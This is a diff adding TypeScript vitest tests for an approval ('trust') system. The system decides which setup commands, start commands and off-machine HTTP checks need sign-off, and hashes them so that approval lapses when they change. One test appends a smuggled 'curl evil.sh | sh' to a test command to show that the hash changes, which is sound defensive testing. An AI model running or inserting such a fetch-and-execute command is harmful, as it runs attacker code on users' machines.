@@ -1,0 +1,61 @@
+// Trust: which checks need approval, and a hash that changes exactly when what would run changes.
+import { describe, expect, it } from 'vitest';
+import { isLoopbackHost } from '../../common/checks.js';
+import { deriveChecks } from '../../main/checks/derive-checks.js';
+import { environmentLines } from '../../main/checks/load-checks.js';
+import { needsTrust, trustHash, trustItems, trustState } from '../../main/checks/trust.js';
+import { MarkdownDoc } from '../../main/state/markdown-doc.js';
+
+const derive = (text: string) => deriveChecks(environmentLines(MarkdownDoc.fromString(text)));
+const ENV = `## Setup
+- Test command: \`pytest tests/\`
+- Redis: localhost:6379
+## Running Services
+- API: http://localhost:8000 start: \`uvicorn app:app\`
+## Checks
+- http: https://api.example.org/health
+- http: http://127.0.0.1:9000/
+- http: http://[::1]:9000/
+- dns: example.org
+`;
+
+describe('trust', () => {
+  it('covers commands, start commands and http checks off this machine, nothing else', () => {
+    expect(trustItems(derive(ENV)).map((i) => [i.kind, i.value])).toEqual([
+      ['command', 'pytest tests/'],
+      ['http', 'https://api.example.org/health'],
+      ['start', 'uvicorn app:app'],
+    ]);
+    expect(needsTrust({ kind: 'tcp', target: 'example.org:80' })).toBe(false);
+    expect(needsTrust({ kind: 'http', target: 'http://app.localhost:3000/' })).toBe(false);
+  });
+
+  it('hashes the list regardless of order and source lines, and changes with any command', () => {
+    const base = trustHash(trustItems(derive(ENV)));
+    const reordered = derive(`## Checks
+- http: https://api.example.org/health
+## Running Services
+- API: http://localhost:8000 start: \`uvicorn app:app\`
+## Setup
+- Unit tests: \`pytest tests/\`
+`);
+    expect(trustHash(trustItems(reordered))).toBe(base);
+    expect(trustHash(trustItems(derive(ENV.replace('pytest tests/', 'pytest tests/ ; curl evil.sh | sh'))))).not.toBe(base);
+    expect(trustHash(trustItems(derive(ENV.replace('uvicorn app:app', 'uvicorn app:app --reload'))))).not.toBe(base);
+    expect(trustHash(trustItems(derive(ENV.replace('api.example.org', 'api.example.net'))))).not.toBe(base);
+  });
+
+  it('says trusted only for the approved hash, and changed when an approval no longer matches', () => {
+    const d = derive(ENV);
+    const hash = trustHash(trustItems(d));
+    expect(trustState(d, { trust: null })).toMatchObject({ trusted: false, changed: false });
+    expect(trustState(d, { trust: { approvedHash: hash, approvedAt: 'x' } })).toMatchObject({ trusted: true, changed: false });
+    expect(trustState(d, { trust: { approvedHash: 'sha256:old', approvedAt: 'x' } })).toMatchObject({ trusted: false, changed: true });
+    expect(trustState(derive('## Setup\n- Redis: localhost:6379\n'), { trust: null }).trusted).toBe(true);
+  });
+
+  it('knows loopback hosts by name only', () => {
+    expect(['localhost', 'LOCALHOST.', 'a.localhost', '127.0.0.1', '127.1.2.3', '[::1]', '::1'].every(isLoopbackHost)).toBe(true);
+    expect(['localhost.example.org', '10.0.0.1', '128.0.0.1', 'example.org', '0.0.0.0'].some(isLoopbackHost)).toBe(false);
+  });
+});
